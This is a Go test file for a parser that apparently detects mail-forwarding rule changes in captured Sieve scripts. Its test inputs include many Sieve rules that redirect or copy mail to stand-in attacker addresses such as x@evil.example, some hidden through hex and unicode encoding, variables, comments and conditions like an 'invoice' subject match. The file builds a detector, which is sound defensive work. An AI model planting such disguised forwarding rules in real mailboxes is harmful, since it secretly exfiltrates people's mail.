package script

import (
	"crypto/sha256"
	"fmt"
	"strings"
	"testing"
	"time"

	"mailsensor/capture"
	"mailsensor/protocols"
)

// read gives a script to a Reader in pieces of the given size; 0 is whole.
func read(text string, size int) *protocols.RuleChange {
	r := New()
	for b := []byte(text); len(b) > 0; {
		n := len(b)
		if size > 0 {
			n = min(size, n)
		}
		r.Write(append([]byte(nil), b[:n]...))
		b = b[n:]
	}
	r.End()
	return fill(r)
}

func fill(r *Reader) *protocols.RuleChange {
	s := protocols.NewDriver(nil).Open(capture.Conn{})
	e := s.RuleChange(0)
	r.Fill(e, s)
	return e
}

// render is what a script does, in a line: its actions, ? before those that are
// not for all mail; then its conditions in brackets.
func render(e *protocols.RuleChange) string {
	var out []string
	for _, a := range e.Actions {
		s := a.Kind.String()
		if a.Conditional {
			s = "?" + s
		}
		if a.Copy {
			s += "+"
		}
		if len(a.Target) > 0 {
			s += " " + string(a.Target)
		}
		if a.Unresolved {
			s += " unresolved"
		}
		out = append(out, s)
	}
	if e.KeepsCopy {
		out = append(out, "kept")
	}
	if e.Truncated {
		out = append(out, "truncated")
	}
	for _, c := range e.Conditions {
		out = append(out, fmt.Sprintf("[%s]", c))
	}
	return strings.Join(out, "; ")
}

func TestScripts(t *testing.T) {
	for _, tt := range []struct{ name, script, want string }{
		{"nothing", "", "kept"},
		{"redirect", `redirect "x@evil.example";`, "redirect x@evil.example"},
		{"copy", `require ["copy"]; redirect :copy "x@evil.example";`, "redirect+ x@evil.example; kept"},
		{"any case", `REQUIRE "copy"; ReDirect :COPY "x@evil.example";`, "redirect+ x@evil.example; kept"},
		{"keep", `redirect "x@evil.example"; keep;`, "redirect x@evil.example; kept"},
		{"keep first", `keep; redirect "x@evil.example";`, "redirect x@evil.example; kept"},
		{"several", `redirect "a@b.example"; redirect "c@d.example"; redirect "a@b.example";`, "redirect a@b.example; redirect c@d.example"},
		{"name", `redirect "Ann <x@evil.example>";`, "redirect x@evil.example"},
		{"spaces", "redirect \" x@evil.example\r\n\";", "redirect x@evil.example"},
		{"condition", `if header :contains "Subject" "invoice" { redirect "x@evil.example"; }`, `?redirect x@evil.example; [Subject contains "invoice"]`},

		{"hash comment", "# redirect \"no@comment.example\";\nkeep;", "kept"},
		{"bracket comment", "/* redirect \"no@comment.example\"; ** */ redirect /* \" */ \"x@evil.example\" # ;\n;", "redirect x@evil.example"},
		{"no nesting of comments", `/* /* */ redirect "x@evil.example";`, "redirect x@evil.example"},
		{"comment at the end", "keep; # that is all", "kept"},
		{"escapes", `redirect "\x@e\vil.example"; fileinto "a\"b\\c";`, `redirect x@evil.example; move a"b\c; kept`},
		{"text block", "redirect text:\r\nx@evil.example\r\n.\r\n;", "redirect x@evil.example"},
		{"text block with comment", "redirect text: # to whom\nx@evil.example\n.\n;", "redirect x@evil.example"},
		{"dot-stuffing", "fileinto text:\r\n..a\r\n.b\r\n.\r\n;", "move .a\r\n.b; kept"},
		{"words in text", "vacation text:\r\nredirect \"no@text.example\";\r\n..\r\n.\r\n;", "reply+; kept"},
		{"text is no word", `text :x "y"; keep;`, "kept"},
		{"byte order mark", "\xef\xbb\xbfkeep;", "kept"},

		{"hex", `require "encoded-character"; redirect "enc${hex:40}evil.example";`, "redirect enc@evil.example"},
		{"hex with blanks", "require \"encoded-character\"; redirect \"${HEX: 78 40\r\n65 }vil.example\";", "redirect x@evil.example"},
		{"unicode", `require "encoded-character"; redirect "x${unicode:0040}${unicode: 65 76}il.example";`, "redirect x@evil.example"},
		{"bad encoding stays", `require "encoded-character"; redirect "${hex:4}${hex:400}${unicode:d800}${hex:}x@y";`, "redirect ${hex:4}${hex:400}${unicode:d800}${hex:}x@y"},
		{"not required", `redirect "a${hex:40}b${x}";`, "redirect a${hex:40}b${x}"},
		{"encoded variable", `require ["encoded-character","variables"]; set "n" "evil"; redirect "x@${hex:24 7b 6e 7d}.example";`, "redirect x@evil.example"},

		{"variables", `require ["variables"]; set "d" "evil.example"; set "u" "hidden"; redirect "${u}@${D}";`, "redirect hidden@evil.example"},
		{"never set", `require ["variables"]; redirect "x${nothing}@evil.example";`, "redirect x@evil.example"},
		{"no match yet", `require ["variables"]; redirect "x${1}@evil.example";`, "redirect x@evil.example"},
		{"no variable", `require ["variables"]; redirect "${ x}${}${a-b}@y";`, "redirect ${ x}${}${a-b}@y"},
		{"quoted reference", `require ["variables"]; set "x" "a@b"; redirect "\${x}";`, "redirect a@b"},
		{"not expanded twice", `require ["variables"]; set "dollar" "$"; redirect "${dollar}{x}@y";`, "redirect ${x}@y"},
		{"modifiers", `require ["variables"]; set :lower :upperfirst "a" "xEVIL"; set :upper "b" "x"; set :length "c" "1234"; redirect "${a}${b}${c}@y";`, "redirect XevilX4@y"},
		{"more modifiers", `require ["variables"]; set :lowerfirst "a" "AB"; set :quotewildcard "b" "*"; set :encodeurl "c" "@"; redirect "${a}${b}${c}@y";`, `redirect aB\*%40@y`},
		{"unknown modifier", `require ["variables"]; set :rot13 "a" "x"; redirect "${a}@y";`, "redirect x@y unresolved"},
		{"set again", `require ["variables"]; set "a" "1"; redirect "${a}@y"; set "a" "2"; redirect "${a}@y";`, "redirect 1@y; redirect 2@y"},
		{"set in a branch", `require ["variables"]; set "a" "1"; if exists "X" { set "a" "2"; redirect :copy "${a}@y"; } redirect "${a}@y";`,
			`?redirect+ 2@y; ?redirect 2@y; ?redirect 1@y; [exists "X"]`},
		{"set in both branches", `require ["variables"]; set "a" "1"; if exists "X" { set "a" "2"; } else { set "a" "3"; } set "b" "${a}@y"; redirect "${b}";`,
			`?redirect 2@y; ?redirect 3@y; [exists "X"]`},
		{"set alike in both branches", `require ["variables"]; if exists "X" { set "a" "2"; } else { set "a" "2"; } redirect "${a}@y";`, `redirect 2@y; [exists "X"]`},
		{"set in branches in one another", `require ["variables"]; if exists "X" { set "a" "1"; if exists "Y" { set "a" "2"; } } redirect "${a}@y";`,
			`?redirect 2@y; ?redirect 1@y; ?redirect @y; [exists "X"]; [exists "Y"]`},
		{"set in a branch that ends, and in another", `require ["variables"]; if exists "X" { set "a" "1"; stop; } else { set "a" "2"; } redirect "${a}@y";`, `?redirect 2@y; [exists "X"]`},
		{"too many values", `require ["variables"]; if exists "A" { set "a" "1"; } elsif exists "B" { set "a" "2"; } elsif exists "C" { set "a" "3"; } elsif exists "D" { set "a" "4"; } redirect "${a}@y";`,
			`redirect ${a}@y unresolved; [exists "A"]; [exists "B"]; [exists "C"]; [exists "D"]`},
		{"two that vary", `require ["variables"]; if exists "A" { set "a" "1"; set "b" "2"; } redirect "${a}@${b}";`, `redirect ${a}@${b} unresolved; [exists "A"]`},
		{"set in a branch that ends", `require ["variables"]; set "a" "1"; if exists "X" { set "a" "2"; stop; } redirect "${a}@y";`,
			`?redirect 1@y; [exists "X"]`},
		{"set in the other branch", `require ["variables"]; set "a" "1"; if exists "X" { set "a" "2"; } elsif exists "Y" { redirect "${a}@y"; }`,
			`?redirect 1@y; [exists "X"]; [exists "Y"]`},
		{"set in a branch for all", `require ["variables"]; if true { set "a" "2"; } redirect "${a}@y";`, "redirect 2@y"},
		{"set where nothing gets", `require ["variables"]; set "a" "1"; if false { set "a" "2"; } redirect "${a}@y";`, "redirect 1@y"},
		{"from the mail", `require ["variables"]; if header :matches "Subject" "*" { set "a" "${1}"; } redirect "${a}@evil.example";`,
			`redirect ${a}@evil.example unresolved; [Subject matches "*"]`},
		{"match", `require ["variables"]; if string :matches "ab@evil.example" "?b@*" { redirect "${1}@${2}"; } redirect "${0}";`, "redirect a@evil.example; redirect ab@evil.example"},
		{"match that fails", `require ["variables"]; if string :matches "ab" "a?c" { redirect "x@y"; }`, "kept"},
		{"match of the mail behind", `require ["variables"]; if string :matches "x@y" "*" {} if header :matches "X" "*" {} redirect "${1}";`, `redirect ${1} unresolved; [X matches "*"]`},
		{"namespace", `require ["variables"]; redirect "${env.x}@y";`, "redirect ${env.x}@y unresolved"},
		{"global", `require ["variables","include"]; global "a"; redirect "${a}@y";`, "redirect ${a}@y unresolved"},
		{"include may set it", `require ["variables","include"]; global "a"; set "a" "1"; redirect "${a}@y"; include "other"; redirect "${a}@y";`,
			"redirect 1@y; include+ other; redirect ${a}@y unresolved"},
		{"extracttext", `require ["variables"]; extracttext :first 20 "a"; redirect "${a}@y";`, "redirect ${a}@y unresolved"},

		{"if true", `if true { redirect "x@y"; }`, "redirect x@y"},
		{"if false", `if false { redirect "x@y"; }`, "kept"},
		{"anyof", `if anyof (exists "X", true) { redirect "x@y"; }`, "redirect x@y"},
		{"allof", `if allof (exists "X", true) { redirect "x@y"; }`, `?redirect x@y; [exists "X" and true]`},
		{"allof false", `if allof (exists "X", not true) { redirect "x@y"; }`, "kept"},
		{"not false", `if not false { redirect "x@y"; }`, "redirect x@y"},
		{"not anyof", `if not anyof (false, not true) { redirect "x@y"; }`, "redirect x@y"},
		{"else", `if true { keep; } else { redirect "x@y"; }`, "kept"},
		{"else of false", `if false { keep; } elsif not false { redirect "x@y"; } else { discard; }`, "redirect x@y"},
		{"elsif true", `if exists "X" { keep; } elsif true { redirect "x@y"; }`, `?redirect x@y; [exists "X"]`},
		{"every branch", `if exists "X" { redirect "x@y"; } else { redirect "x@y"; }`, `?redirect x@y; [exists "X"]`},
		{"stop", `stop; redirect "x@y";`, "kept"},
		{"stop in a branch", `if exists "X" { stop; } redirect "x@y";`, `?redirect x@y; [exists "X"]`},
		{"string", `require "variables"; set "a" "Yes"; if string "${a}" "yes" { redirect "x@y"; }`, "redirect x@y"},
		{"string of octets", `if string :comparator "i;octet" "Yes" "yes" { redirect "x@y"; }`, "kept"},
		{"string contains", `if string :contains ["a","abc"] ["B"] { redirect "x@y"; }`, "redirect x@y"},
		{"size", `if size :over 0 { redirect "x@y"; } if size :under 0K { discard; }`, "redirect x@y"},
		{"size of a mail", `if size :over 100K { redirect "x@y"; }`, `?redirect x@y; [size over 100k]`},

		{"discard", `discard;`, "discard"},
		{"discard, keep", `discard; keep;`, "discard; kept"},
		{"fileinto", `require ["fileinto","mailbox"]; fileinto :create "Big";`, "move Big; kept"},
		{"fileinto copy", `fileinto :copy "Big";`, "copy+ Big; kept"},
		{"fileinto flags", `fileinto :flags ["\\Seen \\Deleted", "x"] "RSS";`, `move RSS; mark_read+; flag+ \Deleted; flag+ x; kept`},
		{"fileinto for a use", `fileinto :specialuse "\\Archive" :mailboxid "F1" "Old";`, "move Old; kept"},
		{"keep flags", `keep :flags "\\seen";`, "mark_read+; kept"},
		{"addflag", `addflag ["\\Seen"]; setflag "v" "\\Flagged";`, `mark_read+; flag+ \Flagged; kept`},
		{"reject", `reject "go away"; `, "reject"},
		{"ereject", "if exists \"X\" { ereject text:\nno\n.\n; }", `?reject; [exists "X"]`},
		{"vacation", `vacation :days 7 :addresses ["a@b","c@d"] :subject "away" :from "me@x" "redirect \"x@y\";";`, "reply+; kept"},
		{"notify", `require "enotify"; notify :importance "1" :message "new" "mailto:x@evil.example?subject=a&cc=b%40evil.example,c@evil.example";`,
			"notify+ x@evil.example; notify+ b@evil.example; notify+ c@evil.example; kept"},
		{"notify by another way", `notify "xmpp:x@evil.example";`, "notify+ xmpp:x@evil.example; kept"},
		{"notify of old", `notify :method "mailto" :options ["x@evil.example"] :message "m";`, "notify+ x@evil.example; kept"},
		{"include", `include :personal :optional "other";`, "include+ other; kept"},
		{"redirect to a list", `redirect :list "tag:example.com,2009:x";`, "redirect tag:example.com,2009:x unresolved"},
		{"redirect with DSN", `redirect :copy :notify "NEVER" :ret "HDRS" :bytimerelative 300 :bymode "return" "x@y";`, "redirect+ x@y; kept"},
		{"pipe", `require "vnd.dovecot.pipe"; pipe :copy "program" ["a","b"];`, "forward+ program; kept"},
		{"loop", `foreverypart { if header :mime :type "Content-Type" "image" { fileinto "Pictures"; break; } } redirect "x@y";`,
			`?move Pictures; redirect x@y; [Content-Type is "image"]`},
		{"unknown block", `whenever "monday" { redirect "x@y"; } redirect :copy "z@y";`, "?redirect x@y; redirect+ z@y"},
		{"unknown command", `frobnicate :hard 3 ["a","b"]; redirect "x@y";`, "redirect x@y"},
		{"unknown test", `if moonphase :is "full" { redirect "x@y"; }`, `?redirect x@y; [moonphase is "full"]`},
		{"imapsieve", `require ["imapsieve","environment"]; if environment :is "imap.cause" "APPEND" { redirect :copy "x@y"; }`,
			`?redirect+ x@y; kept; [environment imap.cause is "APPEND"]`},

		{"words of conditions", `if anyof (header :contains ["Subject","X-A"] ["invoice","Rechnung"], address :domain :is "from" "b.example", allof (exists "A", body :text :contains "password")) { redirect "x@y"; }`,
			`?redirect x@y; [Subject, X-A contains "invoice", "Rechnung" or address:domain from is "b.example" or (exists "A" and body:text contains "password")]`},
		{"relational", `if header :value "ge" :comparator "i;ascii-numeric" "X-Spam" "5" { discard; }`, `?discard; [X-Spam value >= "5"]`},
		{"date", `if currentdate :value "lt" "hour" "06" { redirect "x@y"; }`, `?redirect x@y; [currentdate hour value < "06"]`},
		{"duplicate", `if duplicate :header "X-Id" :seconds 60 { discard; }`, `?discard; [duplicate "X-Id" 60]`},
		{"not", `if not address "to" ["a","b","c","d","e"] { discard; }`, `?discard; [not (address to is "a", "b", "c", "d", …)]`},

		{"no end", `redirect "x@y"`, "kept; truncated"},
		{"no end of block", `if true { redirect "x@y";`, "redirect x@y; truncated"},
		{"no end of string", `redirect "x@y;`, "kept; truncated"},
		{"no semicolon", `if true { redirect "x@y" }`, "redirect x@y; truncated"},
		{"no beginning", `} redirect "x@y";`, "redirect x@y; truncated"},
		{"odd octets", "\x00 redirect % \"x@y\";", "redirect x@y; truncated"},
		{"else alone", `else { redirect "x@y"; }`, "redirect x@y; truncated"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			if got := render(read(tt.script, 0)); got != tt.want {
				t.Errorf("got  %s\nwant %s", got, tt.want)
			}
			for size := 1; size < 8; size++ {
				if got := render(read(tt.script, size)); got != tt.want {
					t.Errorf("by %d: got  %s\nwant %s", size, got, tt.want)
				}
			}
		})
	}
}

func TestBounds(t *testing.T) {
	many := func(n int, f func(i int) string) string {
		var b strings.Builder
		for i := range n {
			b.WriteString(f(i))
		}
		return b.String()
	}
	for _, tt := range []struct{ name, script, want string }{
		{"depth", many(100, func(int) string { return "if true {" }) + `redirect "x@y";` + many(100, func(int) string { return "}" }), "kept; truncated"},
		{"depth that servers allow", many(15, func(int) string { return "if true {" }) + `redirect "x@y";` + many(15, func(int) string { return "}" }), "redirect x@y"},
		{"depth of tests", "if " + many(200, func(int) string { return "not " }) + `true { redirect "x@y"; }`, "kept; truncated"},
		{"long list before a redirect", `if header "from" [` + many(5000, func(i int) string { return fmt.Sprintf("%q,", strings.Repeat("a", i%90)) }) + `"z"] { discard; } redirect "x@y";`,
			`?discard; redirect x@y; [from is "", "a", "aa", "aaa", …]`},
		{"many arguments", "redirect " + many(5000, func(int) string { return ":copy " }) + `"x@y";`, "redirect+ x@y; kept; truncated"},
		{"many tests", "if anyof (" + many(5000, func(int) string { return "false," }) + `true) { redirect "x@y"; }`, "redirect x@y"},
		{"long string", `vacation "` + strings.Repeat("redirect ", 20000) + `"; redirect "x@y";`, "reply+; redirect x@y"},
		{"long target", `redirect "` + strings.Repeat("x", 400) + `@y";`, "redirect " + strings.Repeat("x", 320) + "; truncated"},
		{"long word", strings.Repeat("x", 400) + ` "y"; keep;`, "kept; truncated"},
		{"many variables", `require "variables";` + many(200, func(i int) string { return fmt.Sprintf("set \"v%d\" \"%d\";", i, i) }) + `redirect "${v1}@${v199}";`, "redirect 1@${v199} unresolved"},
		{"doubling", `require "variables"; set "a" "aaaaaaaaaaaaaaaa";` + many(200, func(int) string { return `set "a" "${a}${a}";` }) + `redirect "x@y"; redirect "${a}";`,
			"redirect x@y; redirect ${a} unresolved"},
		{"many branches", `require "variables"; if false {}` + many(1000, func(i int) string { return fmt.Sprintf("elsif exists \"X\" { set \"a\" \"%d\"; }", i) }) + `redirect "${a}@y";`,
			`redirect ${a}@y unresolved; [exists "X"]`},
		{"many assignments", `require "variables"; ` + many(600, func(int) string { return `set "a" "1";` }) + `redirect "${a}@y";`, "redirect 1@y unresolved"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			if got := render(read(tt.script, 0)); got != tt.want {
				t.Errorf("got  %s\nwant %s", got, tt.want)
			}
			if got := render(read(tt.script, 7)); got != tt.want {
				t.Errorf("in pieces: got  %s\nwant %s", got, tt.want)
			}
		})
	}
	e := read(many(100, func(i int) string { return fmt.Sprintf("redirect \"%d@y\";", i) }), 0)
	if len(e.Actions) != maxActions || !e.Truncated {
		t.Errorf("%d actions, truncated %v", len(e.Actions), e.Truncated)
	}
	e = read(many(100, func(i int) string { return fmt.Sprintf("if exists \"%d\" { redirect \"x@y\"; }", i) }), 0)
	if len(e.Conditions) != maxConditions || len(e.Actions) != 1 || e.Truncated {
		t.Errorf("%d conditions, %d actions, truncated %v", len(e.Conditions), len(e.Actions), e.Truncated)
	}
	if e = read(strings.Repeat(" ", maxScript)+`redirect "x@y";`, 0); len(e.Actions) != 0 || !e.Truncated || e.Hash != [32]byte{} {
		t.Errorf("beyond the bound of a script: %s, hash %x", render(e), e.Hash)
	}
}

func TestHash(t *testing.T) {
	const script = "redirect \"x@evil.example\";\r\n"
	if got, want := read(script, 3).Hash, sha256.Sum256([]byte(script)); got != want {
		t.Errorf("%x, want %x", got, want)
	}
}

// Nothing behind a loss is read: it could be text.
func TestGap(t *testing.T) {
	r := New()
	r.Write([]byte(`redirect "x@evil.example"; vacation "a`))
	r.Gap()
	r.Write([]byte(`redirect "no@text.example";`))
	r.End()
	e := fill(r)
	if got := render(e); got != "redirect x@evil.example; truncated" || e.Hash != [32]byte{} {
		t.Errorf("%s, hash %x", got, e.Hash)
	}
}

// The time is linear whatever a script consists of: 512 KiB are read in some 5 ms,
// and would take seconds if every command cost as much as what stands before it.
func TestLinear(t *testing.T) {
	for _, piece := range []string{
		"if true {", "not ", "(", "[\"a\",", "\"${a}${hex:", "/*", "*", "\\", "set \"a\" \"${a}${a}\";", "text:\n.", ":x ", "1", "anyof(true,", "if header :matches \"a\" \"*\" {}",
		"if string :matches \"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\" \"*a*a*a*a*b\" {}", "redirect \"x@y\";",
		"if exists \"X\" { set \"a\" \"1\"; } redirect \"${a}\";", "if false {} elsif true { set \"a\" \"1\"; }",
	} {
		text := `require ["variables","encoded-character"];` + strings.Repeat(piece, 512<<10/len(piece))
		best := time.Hour
		for range 3 {
			start := time.Now()
			read(text, 0)
			if best = min(best, time.Since(start)); best < time.Second/2 {
				break
			}
		}
		if best > time.Second/2 {
			t.Errorf("%q: %v for 512 KiB", piece, best)
		}
	}
}

func FuzzScript(f *testing.F) {
	f.Add(`require ["variables","encoded-character"]; set "a" "x${hex:40}"; if anyof (not true, header :contains ["a","b"] "c") { redirect :copy "${a}"; } else { stop; }`, uint8(3))
	f.Add("foreverypart { fileinto text: # x\n..a\n.\n; break; } if string :matches \"ab\" \"?*\" { notify \"mailto:${1}\"; }", uint8(1))
	f.Add(`/* */ vacation :days 7K "\""; } , ) ] ( [ {`, uint8(9))
	f.Fuzz(func(t *testing.T, text string, size uint8) {
		want := read(text, 0)
		if got := render(read(text, int(size)+1)); got != render(want) {
			t.Fatalf("by %d: %s\nwhole: %s", size+1, got, render(want))
		}
		if len(want.Actions) > maxActions || len(want.Conditions) > maxConditions {
			t.Fatalf("%d actions, %d conditions", len(want.Actions), len(want.Conditions))
		}
		for _, c := range want.Conditions {
			if len(c) > maxCondition {
				t.Fatalf("a condition of %d octets", len(c))
			}
		}
	})
}
